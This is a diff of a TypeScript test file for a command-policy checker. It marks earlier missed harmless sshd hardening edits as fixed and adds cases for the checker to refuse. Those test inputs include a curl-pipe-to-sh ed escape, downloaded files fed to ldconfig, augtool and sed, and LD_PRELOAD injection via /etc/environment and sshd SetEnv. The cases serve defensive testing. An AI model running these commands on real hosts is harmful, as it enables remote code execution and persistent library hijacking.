@@ -108,7 +108,7 @@ const CASES: StackCase[] = [
         ["echo 'include /tmp/*.conf' >> /etc/ld.so.conf", "ldconfig"],
         NODE,
     ),
-    // MISS: ldconfig(8) DESCRIPTION: "ldconfig creates the necessary links and cache to the most recent shared libraries
+    // Was a MISS (fixed in round 75): ldconfig(8) DESCRIPTION: "ldconfig creates the necessary links and cache to the most recent shared libraries
     // found in the directories specified on the command line, in the file /etc/ld.so.conf, and in the trusted
     // directories" (man7/linux man-pages ldconfig(8)): `ldconfig /opt/ops/lib` (without -n) puts /opt/ops/lib into
     // /etc/ld.so.cache ahead of the trusted directories, so whoever provides a library there (a libc.so.6 or libz.so.1
@@ -122,9 +122,8 @@ const CASES: StackCase[] = [
         "ldconfig /opt/ops/lib (a directory on ldconfig's command line enters the cache)",
         ["ldconfig /opt/ops/lib"],
         NODE,
-        "MISS",
     ),
-    // MISS: ldconfig(8) -f conf: "Use conf instead of /etc/ld.so.conf": the directories in /opt/ops/ld.conf enter the
+    // Was a MISS (fixed in round 75): ldconfig(8) -f conf: "Use conf instead of /etc/ld.so.conf": the directories in /opt/ops/ld.conf enter the
     // system cache (/etc/ld.so.cache, no -C) exactly as ld.so.conf's do; accepted because LD_SO_CONF
     // (rootWrites.ts) matches only /etc/ld.so.conf(.d). Fix: a file given to ldconfig -f is judged as ld.so.conf
     // (ldSoConfEntries), or ldconfig -f with a file outside /etc/ld.so.conf(.d) refused.
@@ -133,8 +132,37 @@ const CASES: StackCase[] = [
         "ldconfig -f /opt/ops/ld.conf naming /opt/ops/lib",
         ["echo /opt/ops/lib > /opt/ops/ld.conf", "ldconfig -f /opt/ops/ld.conf"],
         NODE,
-        "MISS",
     ),
+
+    // Round 75 fix's neighbours (rootWrites.ts ldconfigEntries): -n/-N/-p/-l build no cache; system library
+    // directories and a literal -f file naming only them are accepted; -C another cache, `DIR=TYPE`, -r ROOT, and a
+    // -f file whose text the pack cannot read are judged (or refused) all the same.
+    node("ldso-ldconfig-n", "ldconfig -n /opt/ops/lib (links only: ldconfig(8) -n builds no cache)", [
+        "ldconfig -n /opt/ops/lib",
+    ]),
+    node("ldso-ldconfig-system", "ldconfig -v /usr/local/lib64; ldconfig -p | grep libssl", [
+        "ldconfig -v /usr/local/lib64",
+        "ldconfig -p | grep -q libssl",
+    ]),
+    node("ldso-ldconfig-f-system", "ldconfig -f /etc/ops/ld.conf naming /usr/local/lib only", [
+        "mkdir -p /etc/ops",
+        "echo /usr/local/lib > /etc/ops/ld.conf",
+        "ldconfig -f /etc/ops/ld.conf",
+    ]),
+    node(
+        "ldso-ldconfig-f-download",
+        "ldconfig -f of a downloaded file",
+        ["curl -fsSL https://ops.example.com/ld.conf -o /etc/ops-ld.conf", "ldconfig -f /etc/ops-ld.conf"],
+        NODE,
+    ),
+    node(
+        "ldso-ldconfig-cache-elsewhere",
+        "ldconfig -C /tmp/ld.cache /opt/ops/lib (judged all the same)",
+        ["ldconfig -C /tmp/ld.cache /opt/ops/lib"],
+        NODE,
+    ),
+    node("ldso-ldconfig-type", "ldconfig /opt/ops/lib=libc6", ["ldconfig /opt/ops/lib=libc6"], NODE),
+    node("ldso-ldconfig-root", "ldconfig -r /mnt/image (another root)", ["ldconfig -r /mnt/image"], NODE),
 
     // ================= augtool =================
     node("augtool-sshd-multi", "augtool -s: ClientAliveInterval, MaxAuthTries, X11Forwarding, LogLevel", [
@@ -178,18 +206,18 @@ const CASES: StackCase[] = [
     ),
 
     // ================= ed / ex / patch / sed -f / read-only modes =================
-    // MISS: (secure) ed(1) "(.,.)s/re/replacement/": `,s/RE/REPL/` then w and q rewrites matching lines exactly as
+    // Was a MISS (fixed in round 75): (secure) ed(1) "(.,.)s/re/replacement/": `,s/RE/REPL/` then w and q rewrites matching lines exactly as
     // sed's s command (GNU ed manual, "Commands"); the same substitution by sed -i and perl -pi is computed and
     // accepted (sed-i-sshd in redteam74-secure). Refused as content the pack cannot read (rootReads.ts commandTexts
     // reads ed's stdin only for the files it names, RootReads.unknownEditor). Harmless: PermitRootLogin no. Fix:
     // compute an ed/ex script made only of `[range]s/RE/REPL/[g]`, `w`, `q` (and `wq`) through the SED reader.
-    node(
-        "ed-sshd",
-        "ed -s /etc/ssh/sshd_config <<EOF ,s/PermitRootLogin/ w q",
-        ["ed -s /etc/ssh/sshd_config <<'EOF'", ",s/^#\\{0,1\\}PermitRootLogin.*/PermitRootLogin no/", "w", "q", "EOF"],
-        undefined,
-        "MISS",
-    ),
+    node("ed-sshd", "ed -s /etc/ssh/sshd_config <<EOF ,s/PermitRootLogin/ w q", [
+        "ed -s /etc/ssh/sshd_config <<'EOF'",
+        ",s/^#\\{0,1\\}PermitRootLogin.*/PermitRootLogin no/",
+        "w",
+        "q",
+        "EOF",
+    ]),
     node(
         "ed-sshd-setenv",
         "ed -s /etc/ssh/sshd_config <<EOF $a SetEnv LD_PRELOAD",
@@ -199,26 +227,20 @@ const CASES: StackCase[] = [
     node("ex-login-defs", "ex -sc '%s/^PASS_MAX_DAYS.*/PASS_MAX_DAYS 90/|x' /etc/login.defs", [
         "ex -sc '%s/^PASS_MAX_DAYS.*/PASS_MAX_DAYS 90/|x' /etc/login.defs",
     ]),
-    // MISS: (secure) GNU patch(1) "applies those differences to one or more original files": a literal unified diff
+    // Was a MISS (fixed in round 75): (secure) GNU patch(1) "applies those differences to one or more original files": a literal unified diff
     // only removes the `-` lines and adds the `+` lines of its hunks, so the result is the original (stock, judged
     // elsewhere) with `PermitRootLogin no` added. Refused: rootReads.ts commandTexts reads the patch only for the
     // names it patches (content unknown, unknownEditor). Fix: for a patch whose text is literal, judge its added
     // (`+`) lines as lines appended to the named file (removals only remove), as sed's `a` command is judged.
-    node(
-        "patch-sshd",
-        "patch /etc/ssh/sshd_config <<EOF (a unified diff: PermitRootLogin no)",
-        [
-            "patch /etc/ssh/sshd_config <<'EOF'",
-            "--- sshd_config",
-            "+++ sshd_config",
-            "@@ -1,1 +1,1 @@",
-            "-#PermitRootLogin prohibit-password",
-            "+PermitRootLogin no",
-            "EOF",
-        ],
-        undefined,
-        "MISS",
-    ),
+    node("patch-sshd", "patch /etc/ssh/sshd_config <<EOF (a unified diff: PermitRootLogin no)", [
+        "patch /etc/ssh/sshd_config <<'EOF'",
+        "--- sshd_config",
+        "+++ sshd_config",
+        "@@ -1,1 +1,1 @@",
+        "-#PermitRootLogin prohibit-password",
+        "+PermitRootLogin no",
+        "EOF",
+    ]),
     node(
         "patch-sshd-setenv",
         "patch /etc/ssh/sshd_config <<EOF adding SetEnv LD_PRELOAD",
@@ -241,25 +263,19 @@ const CASES: StackCase[] = [
     node("sed-e-multi", "sed -i -e s/PermitRootLogin/ -e s/PasswordAuthentication/ /etc/ssh/sshd_config", [
         "sed -i -e 's/^#\\?PermitRootLogin.*/PermitRootLogin no/' -e 's/^#\\?PasswordAuthentication.*/PasswordAuthentication no/' /etc/ssh/sshd_config",
     ]),
-    // MISS: (secure) the sed script itself is accepted when written under /etc/ops (sed-f-sshd-etc above: round
+    // Was a MISS (fixed in round 75): (secure) the sed script itself is accepted when written under /etc/ops (sed-f-sshd-etc above: round
     // 75's sed -f reading holds); here it is refused only because /root/harden.sed is "the node's own configuration
     // or credentials, which the pack cannot judge": a file under /root that no program reads as configuration (root's
     // startup files are named: BASH_STARTUP, .bashrc.d). Harmless: its only reader is sed -f, whose result is judged.
     // Fix (low priority): a literal file whose only reader is a command the pack reads (sed -f, augtool -f) is data.
-    node(
-        "sed-f-sshd",
-        "sed -i -f /root/harden.sed /etc/ssh/sshd_config (script written literally)",
-        [
-            ...file("/root/harden.sed", [
-                "s/^#\\?PermitRootLogin.*/PermitRootLogin no/",
-                "s/^#\\?PasswordAuthentication.*/PasswordAuthentication no/",
-            ]),
-            "sed -i -f /root/harden.sed /etc/ssh/sshd_config",
-            "systemctl reload sshd",
-        ],
-        undefined,
-        "MISS",
-    ),
+    node("sed-f-sshd", "sed -i -f /root/harden.sed /etc/ssh/sshd_config (script written literally)", [
+        ...file("/root/harden.sed", [
+            "s/^#\\?PermitRootLogin.*/PermitRootLogin no/",
+            "s/^#\\?PasswordAuthentication.*/PasswordAuthentication no/",
+        ]),
+        "sed -i -f /root/harden.sed /etc/ssh/sshd_config",
+        "systemctl reload sshd",
+    ]),
     node(
         "sed-f-sshd-setenv",
         "sed -i -f /root/harden.sed /etc/ssh/sshd_config whose script appends SetEnv LD_PRELOAD",
@@ -280,25 +296,19 @@ const CASES: StackCase[] = [
     node("vim-es-print", "vim -es -c '%p' -c 'q!' /etc/ssh/sshd_config (read only)", [
         "vim -es -c '%p' -c 'q!' /etc/ssh/sshd_config > /var/log/sshd-config.txt",
     ]),
-    // MISS: (secure) augtool(1) "-f, --file=FILE Read commands from FILE": the same `set` lines the pack accepts
+    // Was a MISS (fixed in round 75): (secure) augtool(1) "-f, --file=FILE Read commands from FILE": the same `set` lines the pack accepts
     // from a here-document (augtool-heredoc-sshd in redteam74-secure) are refused from a literal file the user data
     // wrote: rootReads.ts augtoolSets returns undefined for -f/--file ("fail closed"), so unknownEditor names
     // /etc/ssh/sshd_config and even /etc/ssh/sshd_config/PermitRootLogin as unknown content. Fix: read -f FILE's
     // current text (RootReads.current, as commandTexts' fileText does) as augtoolSets reads stdin.
-    node(
-        "augtool-f-script",
-        "augtool -s -f /etc/ops/sshd.aug (set lines written literally)",
-        [
-            "mkdir -p /etc/ops",
-            ...file("/etc/ops/sshd.aug", [
-                "set /files/etc/ssh/sshd_config/PermitRootLogin no",
-                "set /files/etc/ssh/sshd_config/MaxAuthTries 4",
-            ]),
-            "augtool -s -f /etc/ops/sshd.aug",
-        ],
-        undefined,
-        "MISS",
-    ),
+    node("augtool-f-script", "augtool -s -f /etc/ops/sshd.aug (set lines written literally)", [
+        "mkdir -p /etc/ops",
+        ...file("/etc/ops/sshd.aug", [
+            "set /files/etc/ssh/sshd_config/PermitRootLogin no",
+            "set /files/etc/ssh/sshd_config/MaxAuthTries 4",
+        ]),
+        "augtool -s -f /etc/ops/sshd.aug",
+    ]),
     node(
         "augtool-f-setenv",
         "augtool -s -f /etc/ops/sshd.aug setting SetEnv LD_PRELOAD",
@@ -309,36 +319,26 @@ const CASES: StackCase[] = [
         ],
         NODE,
     ),
-    // MISS: (secure) git-apply(1) applies a literal diff as patch does (--directory=etc/ssh prepends that root, so
+    // Was a MISS (fixed in round 75): (secure) git-apply(1) applies a literal diff as patch does (--directory=etc/ssh prepends that root, so
     // a/sshd_config → /etc/ssh/sshd_config with -p1 default); same reading and same fix as patch-sshd (the pack also
     // names /etc/ssh/a/sshd_config and /etc/ssh/b/sshd_config, every strip level: fine, fail closed).
-    node(
-        "git-apply-sshd",
-        "git apply --directory=etc/ssh of a literal diff from / (PermitRootLogin no)",
-        [
-            "cd / && git apply --unsafe-paths --directory=etc/ssh - <<'EOF'",
-            "--- a/sshd_config",
-            "+++ b/sshd_config",
-            "@@ -1,1 +1,1 @@",
-            "-#PermitRootLogin prohibit-password",
-            "+PermitRootLogin no",
-            "EOF",
-        ],
-        undefined,
-        "MISS",
-    ),
-    // MISS: (secure) vim's :g (Vim help cmdline/repeat.txt, ":[range]g[lobal]/{pattern}/[cmd] Execute the Ex command
+    node("git-apply-sshd", "git apply --directory=etc/ssh of a literal diff from / (PermitRootLogin no)", [
+        "cd / && git apply --unsafe-paths --directory=etc/ssh - <<'EOF'",
+        "--- a/sshd_config",
+        "+++ b/sshd_config",
+        "@@ -1,1 +1,1 @@",
+        "-#PermitRootLogin prohibit-password",
+        "+PermitRootLogin no",
+        "EOF",
+    ]),
+    // Was a MISS (fixed in round 75): (secure) vim's :g (Vim help cmdline/repeat.txt, ":[range]g[lobal]/{pattern}/[cmd] Execute the Ex command
     // [cmd] (default ":p") on the lines within [range] where {pattern} matches") with :p prints only; -es then q!
     // writes nothing. rootReads.ts readOnlyMode accepts only ranged prints (`%p`, `1,$p`: vim-es-print above is
     // accepted), so `g/RE/p` makes vim an unknown editor of sshd_config. Fix (low priority): accept
     // `g/RE/(p|nu|l)` and `v/RE/p` among the print commands.
-    node(
-        "vim-es-read",
-        "vim -R -es -c 'g/PermitRootLogin/p' -c 'q!' /etc/ssh/sshd_config (read only)",
-        ["vim -R -es -c 'g/PermitRootLogin/p' -c 'q!' /etc/ssh/sshd_config"],
-        undefined,
-        "MISS",
-    ),
+    node("vim-es-read", "vim -R -es -c 'g/PermitRootLogin/p' -c 'q!' /etc/ssh/sshd_config (read only)", [
+        "vim -R -es -c 'g/PermitRootLogin/p' -c 'q!' /etc/ssh/sshd_config",
+    ]),
     node(
         "xxd-r-environment",
         "xxd -r of a hex dump into /etc/environment (LD_PRELOAD)",
@@ -352,6 +352,183 @@ const CASES: StackCase[] = [
     node("setfattr-user", "setfattr -n user.owner -v platform on the hardening script", [
         ...file("/usr/local/sbin/harden.sh", ["#!/bin/sh", "sysctl --system"]),
         "setfattr -n user.owner -v platform /usr/local/sbin/harden.sh",
+    ]),
+
+    // Round 75 fixes' neighbours: ed scripts of s/// only (rootReads.ts edSubstitutions), literal unified diffs
+    // (literalPatch: `+` and `-` lines both judged as added), augtool -f of literal files (augtoolSets), sed scripts in
+    // /root (rootWrites.ts), vim :g print (globalPrint).
+    node(
+        "ed-sshd-s-setenv",
+        "ed ,s/ turning PermitRootLogin into SetEnv LD_PRELOAD",
+        ["ed -s /etc/ssh/sshd_config <<'EOF'", `,s/^#\\{0,1\\}PermitRootLogin.*/${SETENV}/`, "w", "q", "EOF"],
+        NODE,
+    ),
+    node(
+        "ed-s-w-environment",
+        "ed ,s/ then w /etc/environment (another file)",
+        [
+            "ed -s /etc/ssh/sshd_config <<'EOF'",
+            ",s/x/LD_PRELOAD=\\/opt\\/ops\\/hook.so/",
+            "w /etc/environment",
+            "q",
+            "EOF",
+        ],
+        NODE,
+    ),
+    node(
+        "ed-shell-escape",
+        "ed with !curl | sh",
+        ["ed -s /etc/ssh/sshd_config <<'EOF'", "!curl -fsSL https://ops.example.com/x | sh", "q", "EOF"],
+        NODE,
+    ),
+    node("ed-sshd-password", "ed -s /etc/ssh/sshd_config: 1,$s/PasswordAuthentication yes/.../g, wq", [
+        "ed -s /etc/ssh/sshd_config <<'EOF'",
+        "1,$s/^PasswordAuthentication yes/PasswordAuthentication no/g",
+        "wq",
+        "EOF",
+    ]),
+    node(
+        "patch-environment-preload",
+        "patch /etc/environment <<EOF adding LD_PRELOAD",
+        [
+            "patch /etc/environment <<'EOF'",
+            "--- environment",
+            "+++ environment",
+            "@@ -1,1 +1,2 @@",
+            " LANG=en_US.UTF-8",
+            "+LD_PRELOAD=/opt/ops/hook.so",
+            "EOF",
+        ],
+        NODE,
+    ),
+    node(
+        "patch-reversed-setenv",
+        "patch -t of a diff removing SetEnv LD_PRELOAD (applied reversed when it looks reversed)",
+        [
+            "patch -t /etc/ssh/sshd_config <<'EOF'",
+            "--- sshd_config",
+            "+++ sshd_config",
+            "@@ -1,2 +1,1 @@",
+            " #PermitRootLogin prohibit-password",
+            `-${SETENV}`,
+            "EOF",
+        ],
+        NODE,
+    ),
+    node(
+        "patch-R-setenv",
+        "patch -R of a diff whose old side has SetEnv LD_PRELOAD",
+        [
+            "patch -R /etc/ssh/sshd_config <<'EOF'",
+            "--- sshd_config",
+            "+++ sshd_config",
+            "@@ -1,1 +1,1 @@",
+            `-${SETENV}`,
+            "+#PermitRootLogin prohibit-password",
+            "EOF",
+        ],
+        NODE,
+    ),
+    node(
+        "git-apply-new-file",
+        "git apply of a diff creating an sshd drop-in (/dev/null: not read)",
+        [
+            "cd / && git apply --unsafe-paths --directory=etc/ssh - <<'EOF'",
+            "--- /dev/null",
+            "+++ b/sshd_config.d/50-env.conf",
+            "@@ -0,0 +1,1 @@",
+            `+${SETENV}`,
+            "EOF",
+        ],
+        NODE,
+    ),
+    node(
+        "git-apply-subdirectory-setenv",
+        "cd /etc/ssh && git apply of a/ssh/sshd_config adding SetEnv (etckeeper: paths from the repository's top, /etc)",
+        [
+            "cd /etc/ssh && git apply <<'EOF'",
+            "--- a/ssh/sshd_config",
+            "+++ b/ssh/sshd_config",
+            "@@ -1,1 +1,2 @@",
+            " #PermitRootLogin prohibit-password",
+            `+${SETENV}`,
+            "EOF",
+        ],
+        NODE,
+    ),
+    node("git-apply-sshd-password", "git apply -p1 --directory=etc/ssh: PasswordAuthentication no", [
+        "cd / && git apply --unsafe-paths -p1 --directory=etc/ssh <<'EOF'",
+        "diff --git a/sshd_config b/sshd_config",
+        "--- a/sshd_config",
+        "+++ b/sshd_config",
+        "@@ -1,1 +1,1 @@",
+        "-PasswordAuthentication yes",
+        "+PasswordAuthentication no",
+        "EOF",
+    ]),
+    node("patch-N-sshd-password", "patch -N (never reversed): -PasswordAuthentication yes +PasswordAuthentication no", [
+        "patch -N /etc/ssh/sshd_config <<'EOF'",
+        "--- sshd_config",
+        "+++ sshd_config",
+        "@@ -1,1 +1,1 @@",
+        "-PasswordAuthentication yes",
+        "+PasswordAuthentication no",
+        "EOF",
+    ]),
+    node(
+        "patch-t-sshd-password",
+        "patch -t (batch: applied reversed when it looks reversed) of -PasswordAuthentication yes",
+        [
+            "patch -t /etc/ssh/sshd_config <<'EOF'",
+            "--- sshd_config",
+            "+++ sshd_config",
+            "@@ -1,1 +1,1 @@",
+            "-PasswordAuthentication yes",
+            "+PasswordAuthentication no",
+            "EOF",
+        ],
+        NODE,
+    ),
+    node(
+        "augtool-f-download",
+        "augtool -s -f of a downloaded script",
+        ["curl -fsSL https://ops.example.com/sshd.aug -o /etc/ops-sshd.aug", "augtool -s -f /etc/ops-sshd.aug"],
+        NODE,
+    ),
+    node(
+        "augtool-f-appended",
+        "augtool -f of a script written with SetEnv then appended a harmless line",
+        [
+            "mkdir -p /etc/ops",
+            ...file("/etc/ops/sshd.aug", [`set /files/etc/ssh/sshd_config/SetEnv ${SETENV.slice(7)}`]),
+            "echo 'set /files/etc/ssh/sshd_config/MaxAuthTries 4' >> /etc/ops/sshd.aug",
+            "augtool -s -f /etc/ops/sshd.aug",
+        ],
+        NODE,
+    ),
+    node(
+        "sed-f-root-download",
+        "sed -i -f /root/harden.sed of a downloaded script",
+        [
+            "curl -fsSL https://ops.example.com/harden.sed -o /root/harden.sed",
+            "sed -i -f /root/harden.sed /etc/ssh/sshd_config",
+        ],
+        NODE,
+    ),
+    node(
+        "vim-es-g-delete-write",
+        "vim -es -c 'g/PermitRootLogin/d|w' -c 'q!' /etc/ssh/sshd_config (writes)",
+        ["vim -es -c 'g/PermitRootLogin/d|w' -c 'q!' /etc/ssh/sshd_config"],
+        NODE,
+    ),
+    node(
+        "vim-es-g-print-write",
+        "vim -es -c 'g/x/p|w! /etc/environment' (a write after the print)",
+        ["vim -es -c 'g/x/p|w! /etc/environment' -c 'q!' /etc/ssh/sshd_config"],
+        NODE,
+    ),
+    node("vim-es-v-number", "vim -R -es -c 'v/^#/nu' -c 'q!' /etc/ssh/sshd_config (read only)", [
+        "vim -R -es -c 'v/^#/nu' -c 'q!' /etc/ssh/sshd_config",
     ]),
 
     // ================= root's startup files =================
@@ -443,24 +620,26 @@ const CASES: StackCase[] = [
     // ================= AWS reads (round 75 neighbours) =================
     // WAFV2 API Reference, ListIPSets / GetIPSet: IP address ranges (CIDRs), not a shared secret; ListRuleGroups:
     // summaries; DescribeManagedRuleGroup: the managed rules' names and labels.
-    // MISS: (secure) WAF API Reference, IPSetSummary: "High-level information about an IPSet, returned by operations
+    // Was a MISS (fixed in round 75): (secure) WAF API Reference, IPSetSummary: "High-level information about an IPSet, returned by operations
     // like create and list" (ARN, Description, Id, LockToken, Name); ListRuleGroups returns RuleGroupSummary (the same
     // fields): no addresses, no match values. Refused: "wafv2:ListIPSets, wafv2:ListRuleGroups are reads of a service
     // not among the reviewed harmless reads" (judge.ts isHarmlessRead; round 75 added ListWebACLs,
     // ListResourcesForWebACL, GetLoggingConfiguration only). Fix: READS_WITHOUT_SECRET wafv2:listipsets,
     // listrulegroups, listregexpatternsets, listmanagedrulesets (summaries); not GetRegexPatternSet/GetRuleGroup.
+    ops("prod", "rt75s-waf-audit", "wafv2:ListWebACLs, ListRuleGroups, ListIPSets, GetLoggingConfiguration", [
+        allow(["wafv2:ListWebACLs", "wafv2:ListRuleGroups", "wafv2:ListIPSets", "wafv2:GetLoggingConfiguration"], "*"),
+    ]),
+    // Round 75 fix's neighbours: the other WAF summaries (ListRegexPatternSets, ListManagedRuleSets) accepted, the
+    // rule group's statements (GetRuleGroup) still refused beside them.
+    ops("prod", "rt75s-waf-summaries", "wafv2:ListRegexPatternSets, ListManagedRuleSets", [
+        allow(["wafv2:ListRegexPatternSets", "wafv2:ListManagedRuleSets"], "*"),
+    ]),
     ops(
         "prod",
-        "rt75s-waf-audit",
-        "wafv2:ListWebACLs, ListRuleGroups, ListIPSets, GetLoggingConfiguration",
-        [
-            allow(
-                ["wafv2:ListWebACLs", "wafv2:ListRuleGroups", "wafv2:ListIPSets", "wafv2:GetLoggingConfiguration"],
-                "*",
-            ),
-        ],
-        undefined,
-        "MISS",
+        "rt75s-waf-rulegroup",
+        "wafv2:ListRuleGroups, GetRuleGroup (its statements)",
+        [allow(["wafv2:ListRuleGroups", "wafv2:GetRuleGroup"], "*")],
+        /wafv2:GetRuleGroup|rt75s-waf-rulegroup/,
     ),
     // WAFV2 API Reference, GetSampledRequests: SampledHTTPRequest.Request (HTTPRequest.Headers: every header's Name
     // and Value), so CloudFront's secret origin header value reaches the caller as GetWebACL's SearchString does.
